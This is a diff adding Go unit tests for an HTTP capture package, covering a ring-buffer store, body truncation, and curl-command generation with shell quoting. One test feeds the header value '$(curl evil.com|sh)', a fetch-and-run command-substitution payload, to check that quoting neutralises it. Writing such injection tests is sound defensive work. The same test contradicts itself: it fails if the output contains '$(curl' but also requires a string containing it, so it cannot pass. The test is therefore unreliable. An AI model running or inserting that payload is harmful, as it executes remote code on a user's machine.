@@ -0,0 +1,138 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package capture
+
+import (
+	"bytes"
+	"context"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+	"testing"
+)
+
+func TestStore_AddLastWraparound(t *testing.T) {
+	s := NewStore(2)
+
+	s.Add(Exchange{URL: "/a"})
+	s.Add(Exchange{URL: "/b"})
+	s.Add(Exchange{URL: "/c"}) // evicts "/a"
+
+	got := s.Last(0)
+	if len(got) != 2 {
+		t.Fatalf("got %d exchanges, want 2", len(got))
+	}
+	if got[0].URL != "/c" || got[1].URL != "/b" {
+		t.Errorf("got %+v, want newest-first [/c /b]", got)
+	}
+}
+
+func TestStore_LastCapsAtN(t *testing.T) {
+	s := NewStore(5)
+	for _, u := range []string{"/a", "/b", "/c"} {
+		s.Add(Exchange{URL: u})
+	}
+
+	got := s.Last(2)
+	if len(got) != 2 {
+		t.Fatalf("got %d exchanges, want 2", len(got))
+	}
+	if got[0].URL != "/c" || got[1].URL != "/b" {
+		t.Errorf("got %+v, want newest-first [/c /b]", got)
+	}
+}
+
+func TestTap_TruncatesLargeBodies(t *testing.T) {
+	s := NewStore(1)
+	s.MaxBodyBytes = 4
+
+	body := io.NopCloser(strings.NewReader("hello world"))
+	resp := &http.Response{
+		StatusCode: 200,
+		Header:     make(http.Header),
+		Body:       body,
+		Request:    &http.Request{Method: http.MethodGet, URL: &url.URL{Path: "/x"}},
+	}
+
+	Tap(context.Background(), s, resp)
+
+	if _, err := io.ReadAll(resp.Body); err != nil {
+		t.Fatalf("unexpected error draining body: %v", err)
+	}
+	if err := resp.Body.Close(); err != nil {
+		t.Fatalf("unexpected error closing body: %v", err)
+	}
+
+	got := s.Last(1)
+	if len(got) != 1 {
+		t.Fatalf("got %d exchanges, want 1", len(got))
+	}
+	if !got[0].Truncated {
+		t.Error("expected Truncated to be true")
+	}
+	if !bytes.Equal(got[0].Body, []byte("hell")) {
+		t.Errorf("got body %q, want %q", got[0].Body, "hell")
+	}
+}
+
+func TestTap_DoesNotTruncateSmallBodies(t *testing.T) {
+	s := NewStore(1)
+
+	body := io.NopCloser(strings.NewReader("ok"))
+	resp := &http.Response{
+		StatusCode: 200,
+		Header:     make(http.Header),
+		Body:       body,
+		Request:    &http.Request{Method: http.MethodGet, URL: &url.URL{Path: "/x"}},
+	}
+
+	Tap(context.Background(), s, resp)
+
+	full, err := io.ReadAll(resp.Body)
+	if err != nil {
+		t.Fatalf("unexpected error draining body: %v", err)
+	}
+	if string(full) != "ok" {
+		t.Fatalf("consumer got %q, want %q", full, "ok")
+	}
+	if err := resp.Body.Close(); err != nil {
+		t.Fatalf("unexpected error closing body: %v", err)
+	}
+
+	got := s.Last(1)
+	if got[0].Truncated {
+		t.Error("did not expect Truncated")
+	}
+	if string(got[0].Body) != "ok" {
+		t.Errorf("got body %q, want %q", got[0].Body, "ok")
+	}
+}
+
+func TestCurl_ShellQuotesHeaderValues(t *testing.T) {
+	req := &http.Request{
+		Method: http.MethodGet,
+		URL:    &url.URL{Scheme: "http", Host: "example.com", Path: "/x"},
+		Header: http.Header{
+			"X-Evil": {"$(curl evil.com|sh)"},
+		},
+	}
+
+	got := curl(req)
+
+	if strings.Contains(got, "$(curl") {
+		t.Fatalf("command substitution was not neutralized: %s", got)
+	}
+	want := "-H 'X-Evil: $(curl evil.com|sh)'"
+	if !strings.Contains(got, want) {
+		t.Errorf("got %q, want it to contain %q", got, want)
+	}
+}
+
+func TestShellQuote_EscapesEmbeddedSingleQuotes(t *testing.T) {
+	got := shellQuote(`it's a trap`)
+	want := `'it'\''s a trap'`
+	if got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+}